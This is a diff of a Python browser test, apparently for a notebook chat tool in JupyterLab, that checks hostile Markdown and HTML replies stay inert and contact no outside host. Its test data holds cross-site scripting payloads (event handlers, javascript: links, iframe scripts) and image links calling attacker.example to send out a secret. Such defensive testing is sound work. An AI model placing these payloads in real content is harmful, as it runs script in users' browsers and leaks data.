@@ -15,21 +15,11 @@ from __future__ import annotations
 
 import json
 import os
-import subprocess
-import sys
+from collections.abc import Callable
 from pathlib import Path
-from urllib.parse import urlsplit
 
 from ..test_sanitize import RENDERERS, _problems
-from .lab import (
-    CHROMIUM,
-    CHROMIUM_ARGS,
-    TIMEOUT_MS,
-    environment,
-    jupyterlab,
-    open_notebook,
-    run_cells,
-)
+from .lab import chromium_page, jupyterlab, open_notebook, run_cells, save_trust_reload
 
 
 def _flag(name: str) -> str:
@@ -45,7 +35,7 @@ HOSTILE = "\n\n".join(
         f'<details open ontoggle="{_flag("details")}"><summary>open me</summary>inside</details>',
         f"[click me](javascript:{_flag('jslink')}) and [entity](javascript&colon;{_flag('ent')})",
         f'<a href="javascript:{_flag("jsa")}">click too</a>',
-        f"<iframe srcdoc=\"<script>parent.{_flag('iframe')}</script>\"></iframe>",
+        f'<iframe srcdoc="<script>parent.{_flag("iframe")}</script>"></iframe>',
         "![chart](http://attacker.example/collect?d=secret)",
         '<img src="http://attacker.example/pixel.png">',
         "Normal **bold words**, `inline code`, $x^2 < y$ and a [safe link](https://example.org/ok).",
@@ -78,24 +68,11 @@ def test_hostile_replies_run_nothing_in_jupyterlab(server, tmp_path: Path) -> No
     shots = Path(os.environ.get("NBCHAT_SCREENSHOTS") or tmp_path / "screenshots")
     shots.mkdir(parents=True, exist_ok=True)
     outside: list[str] = []  # every request for a host other than this machine
-
-    def local_only(route) -> None:
-        host = urlsplit(route.request.url).hostname
-        if host in ("127.0.0.1", "localhost"):
-            route.continue_()
-        else:
-            outside.append(route.request.url)
-            route.abort()  # never a public address
-
     with (
         jupyterlab(server, tmp_path, "hostile.ipynb", CELLS) as url,
         sync_playwright() as pw,
+        chromium_page(pw, expect, outside) as page,
     ):
-        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
-        page = browser.new_page(viewport={"width": 1200, "height": 1000})
-        page.set_default_timeout(TIMEOUT_MS)
-        expect.set_options(timeout=TIMEOUT_MS)
-        page.context.route("**/*", local_only)
         try:
             open_notebook(page, expect, url)
             run_cells(page, expect, len(CELLS))
@@ -117,18 +94,8 @@ def test_hostile_replies_run_nothing_in_jupyterlab(server, tmp_path: Path) -> No
             assert outside == [], f"the browser asked another host: {outside}"
             _shows_the_words_and_the_formatting(page, expect)
 
-            page.keyboard.press("Control+s")
-            expect(page.locator(".jp-mod-dirty")).to_have_count(0)
-            saved = tmp_path / "root" / "hostile.ipynb"
+            saved = save_trust_reload(page, expect, server, tmp_path, "hostile.ipynb")
             _saved_file_is_inert(saved)
-            subprocess.run(
-                [sys.executable, "-m", "jupyter", "trust", str(saved)],
-                env=environment(server, tmp_path),
-                check=True,
-                capture_output=True,
-            )
-            page.reload()
-            expect(page.locator(".jp-Notebook")).to_be_visible()
             expect(outputs.nth(1)).to_contain_text("bold words")
             outputs.nth(1).screenshot(path=str(shots / "hostile-reopened.png"))
             _poke_everything(page)
@@ -137,7 +104,6 @@ def test_hostile_replies_run_nothing_in_jupyterlab(server, tmp_path: Path) -> No
             _shows_the_words_and_the_formatting(page, expect)
         finally:
             page.screenshot(path=str(shots / "hostile-last.png"))
-            browser.close()
             for shot in sorted(shots.glob("hostile*.png")):
                 print(f"screenshot: {shot}")
 
@@ -177,9 +143,11 @@ def _poke_everything(page) -> None:
     assert not found, f"live markup from a reply: {found}"
 
 
-def _saved_file_is_inert(path: Path) -> None:
+def saved_outputs_inert(path: Path, ours: Callable[[str], str] = str) -> tuple[int, int]:
+    """Check every saved output of a notebook file: its Markdown rendered by both libraries
+    and its HTML (less nbchat's own markup, `ours`) hold nothing live; (Markdown, HTML) counts."""
     notebook = json.loads(path.read_text())
-    shown = 0
+    markdown = html = 0
     for cell in notebook["cells"]:
         for output in cell.get("outputs", []):
             data = output.get("data", {})
@@ -187,7 +155,12 @@ def _saved_file_is_inert(path: Path) -> None:
                 source = "".join(data["text/markdown"])
                 for name, render in RENDERERS.items():
                     assert not _problems(render(source)), (name, source)
-                shown += 1
+                markdown += 1
             if "text/html" in data:
-                assert not _problems("".join(data["text/html"]))
-    assert shown >= 4, "the replies' Markdown was saved"
+                assert not _problems(ours("".join(data["text/html"])))
+                html += 1
+    return markdown, html
+
+
+def _saved_file_is_inert(path: Path) -> None:
+    assert saved_outputs_inert(path)[0] >= 4, "the replies' Markdown was saved"
